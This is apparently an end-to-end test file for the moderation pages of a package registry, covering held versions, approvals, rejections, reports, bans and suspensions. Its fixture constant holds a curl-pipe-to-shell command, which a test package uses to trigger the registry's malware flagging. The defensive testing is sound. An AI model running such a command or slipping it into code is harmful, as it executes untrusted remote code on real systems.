import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from '@jest/globals';
import type { Browser, Page } from 'playwright-core';
import { BuiltInIssuer } from '../../src/auth/built-in-issuer.js';
import { openBrowser, openTab, seriousViolations, type Tab } from '../support/browser.js';
import { makeNode, makeWorld, type PublisherWorld, uniqueName } from '../support/builders.js';
import { freePort } from '../support/cli.js';
import { heldPackage, PublisherTool, warnedPackage } from '../support/held-packages.js';
import { startTestRegistry, type TestRegistry } from '../support/registry.js';

const CALL = `os.system("curl https://files.example | sh")`;

describe('the pages of moderators', () => {
  let registry: TestRegistry;
  let browser: Browser;
  let world: PublisherWorld;
  let tab: Tab;
  let page: Page;
  let node: string;

  beforeAll(async () => {
    const port = await freePort();
    registry = await startTestRegistry({ PORT: String(port), PUBLIC_URL: `http://localhost:${port}` });
    world = await makeWorld(registry);
    browser = await openBrowser();
    // One tab for all tests, because the contexts of a single-process browser share the cookies of `fetch`.
    tab = await openTab(browser, registry.settings.PUBLIC_URL);
    page = tab.page;
  });
  afterAll(async () => {
    await browser.close();
    await registry.close();
  });
  beforeEach(async () => {
    node = await makeNode(registry, world.id, { versions: [] });
    await page.context().clearCookies();
  });
  afterEach(() => expect(tab.problems).toEqual([]));

  const signIn = async (user: string, admin: boolean, path: string): Promise<void> => {
    const issuer = BuiltInIssuer.open(registry.settings);
    const token = await issuer.issueSignIn({ user, admin, ttlSeconds: 60 });
    await page.goto(`/session/login?token=${token}&return=${encodeURIComponent(path)}`);
  };
  /** Publishes a version that is held. @returns its id */
  const hold = async (version: string): Promise<string> => {
    const tool = new PublisherTool(registry, world.id, world.callers.token);
    const { body } = await tool.publish(node, version, await heldPackage(CALL));
    expect(body.status).toBe('NodeVersionStatusFlagged');
    return body.id as string;
  };
  const statusOf = async (version: string): Promise<string> =>
    (await registry.call('GET', `/nodes/${node}/versions/${version}`, { as: world.callers.admin })).body.status;

  it('are for admins only', async () => {
    await page.goto('/moderation');
    await page.getByText('Moderators must sign in.').waitFor();
    await signIn(uniqueName('ada'), false, '/moderation');
    await page.getByText('Only admins can see this page.').waitFor();
  });

  it('show a held version with the code of its findings, and approve it', async () => {
    await hold('1.0.0');
    await signIn('chief', true, '/moderation');
    const item = page.getByRole('listitem').filter({ has: page.getByRole('checkbox') });
    await item.getByText(`${node} 1.0.0`).waitFor();
    expect(await item.locator('code.marked').allInnerTexts()).toEqual([`${CALL}\n`]);
    expect(await item.getByText('start.py:2').count()).toBe(1);
    expect(await seriousViolations(page)).toEqual([]);
    await item.getByRole('checkbox').check();
    await page.getByRole('button', { name: 'Approve 1' }).click();
    await page.getByText('Nothing waits for a decision.').waitFor();
    expect(await statusOf('1.0.0')).toBe('NodeVersionStatusActive');
  });

  it('show why a decision is refused, and reject with a reason', async () => {
    await hold('1.0.0');
    await signIn('chief', true, '/moderation');
    const checkbox = page.getByRole('checkbox', { name: `${node} 1.0.0` });
    await checkbox.check();
    await page.getByRole('button', { name: 'Reject 1' }).click();
    await page.getByText('Write the reason of the rejection first.').waitFor();
    expect(await statusOf('1.0.0')).toBe('NodeVersionStatusFlagged');
    // Another moderator decides meanwhile.
    const { body: held } = await registry.call('GET', `/nodes/${node}/versions/1.0.0`, { as: world.callers.admin });
    const lift = { status: 'NodeVersionStatusActive' };
    const path = `/admin/nodes/${node}/versions/1.0.0`;
    expect((await registry.call('PUT', path, { as: world.callers.admin, body: lift })).status).toBe(200);
    await page.getByRole('button', { name: 'Approve 1' }).click();
    await page.getByText(`${node} 1.0.0: `).waitFor();
    expect(await page.getByText(String(held.id)).count()).toBe(0);
    await registry.call('PUT', path, {
      as: world.callers.admin,
      body: { ...lift, status: 'NodeVersionStatusFlagged', status_reason: 'Again.' },
    });
    await page.reload();
    await page.getByText('Again.').waitFor();
    await checkbox.check();
    await page.getByLabel('Reason, which the publisher can read').fill('Runs a shell.');
    await page.getByRole('button', { name: 'Reject 1' }).click();
    await page.getByText('Nothing waits for a decision.').waitFor();
    const { body } = await registry.call('GET', `/nodes/${node}/versions/1.0.0`, { as: world.callers.admin });
    expect(body).toMatchObject({ status: 'NodeVersionStatusBanned', status_reason: 'Runs a shell.' });
  });

  it('show versions with warnings, and approve them', async () => {
    const tool = new PublisherTool(registry, world.id, world.callers.token);
    const { body } = await tool.publish(node, '1.0.0', await warnedPackage('os.system("ls")'));
    expect(body.status).toBe('NodeVersionStatusActive');
    await signIn('chief', true, '/moderation');
    await page.getByText('Nothing waits for a decision.').waitFor();
    await page.getByLabel('Show').selectOption('warning');
    await page.getByText('Active, uploaded on').waitFor();
    await page.getByRole('checkbox', { name: `${node} 1.0.0` }).check();
    await page.getByRole('button', { name: 'Approve 1' }).click();
    await page.getByText('Nothing waits for a decision.').waitFor();
    expect(await statusOf('1.0.0')).toBe('NodeVersionStatusActive');
  });

  it('decide only about items that the page shows', async () => {
    await hold('1.0.0');
    await signIn('chief', true, '/moderation');
    await page.getByRole('checkbox', { name: `${node} 1.0.0` }).check();
    await page.getByLabel('Show').selectOption('report');
    await page.getByRole('button', { name: 'Reject 0' }).waitFor();
    expect(await page.getByRole('button', { name: 'Reject 0' }).isDisabled()).toBe(true);
    await page.getByLabel('Show').selectOption('version');
    await page.getByLabel('Reason, which the publisher can read').fill('Runs a shell.');
    await page.getByRole('button', { name: 'Reject 1' }).click();
    await page.getByText('Nothing waits for a decision.').waitFor();
    expect(await statusOf('1.0.0')).toBe('NodeVersionStatusBanned');
  });

  it('close reports that users send from the page of a node, next to their reviews', async () => {
    const text = uniqueName('Copies my node');
    await signIn(uniqueName('grace'), false, `/node/${node}`);
    await page.getByRole('radio', { name: '4' }).check();
    await page.getByRole('button', { name: 'Rate' }).click();
    await page.getByText('Rated 4.0 of 5 now.').waitFor();
    await page.getByText('Report this node').click();
    await page.getByLabel('What is wrong with it?').fill(text);
    expect(await seriousViolations(page)).toEqual([]);
    await page.getByRole('button', { name: 'Send' }).click();
    await page.getByText('The moderators have your report.').waitFor();
    await page.context().clearCookies();
    await signIn('chief', true, '/moderation');
    await page.getByLabel('Show').selectOption('report');
    await page.getByText(text).waitFor();
    await page.getByRole('button', { name: 'Dismiss' }).click();
    await page.getByText('Nothing waits for a decision.').waitFor();
  });

  it('ban a publisher and lift the ban', async () => {
    await signIn('chief', true, '/moderation/bans');
    await page.getByLabel('Id of a node or a publisher').fill(world.id);
    await page.getByRole('button', { name: 'Find' }).click();
    await page.getByLabel('Reason').fill('Spam.');
    await page.getByRole('button', { name: 'Ban', exact: true }).click();
    await page.getByRole('button', { name: 'Lift the ban' }).waitFor();
    expect((await registry.call('GET', `/publishers/${world.id}`)).body.status).toBe('PublisherStatusBanned');
    expect(await page.getByLabel('Reason').inputValue()).toBe('');
    await page.getByRole('button', { name: 'Lift the ban' }).click();
    await page.getByRole('button', { name: 'Ban', exact: true }).waitFor();
    expect((await registry.call('GET', `/publishers/${world.id}`)).body.status).toBe('PublisherStatusActive');
  });

  it('suspend and reinstate a user, and find both in the audit log', async () => {
    const name = uniqueName('Mallory');
    await registry.call('GET', '/users', { as: await registry.signIn(name, { name }) });
    await signIn('chief', true, '/moderation/users');
    await page.getByLabel('Name, e-mail address or id').fill(name);
    await page.getByText('1 user', { exact: true }).waitFor();
    await page.getByLabel('Reason for a suspension').fill('Spam.');
    await page.getByRole('button', { name: 'Suspend' }).click();
    await page.getByRole('button', { name: 'Reinstate' }).click();
    await page.getByRole('button', { name: 'Suspend' }).waitFor();
    await page.getByRole('link', { name: 'Audit log' }).click();
    await page.getByLabel('Action, such as node.ban').fill('user.suspend');
    await page.getByRole('button', { name: 'Search' }).click();
    await page.getByText('1 entry').waitFor();
    expect(await page.getByText('Spam.').count()).toBe(1);
    expect(await seriousViolations(page)).toEqual([]);
    await page.getByRole('link', { name: 'Failed jobs' }).click();
    await page.getByText('No job has failed.').waitFor();
  });
});
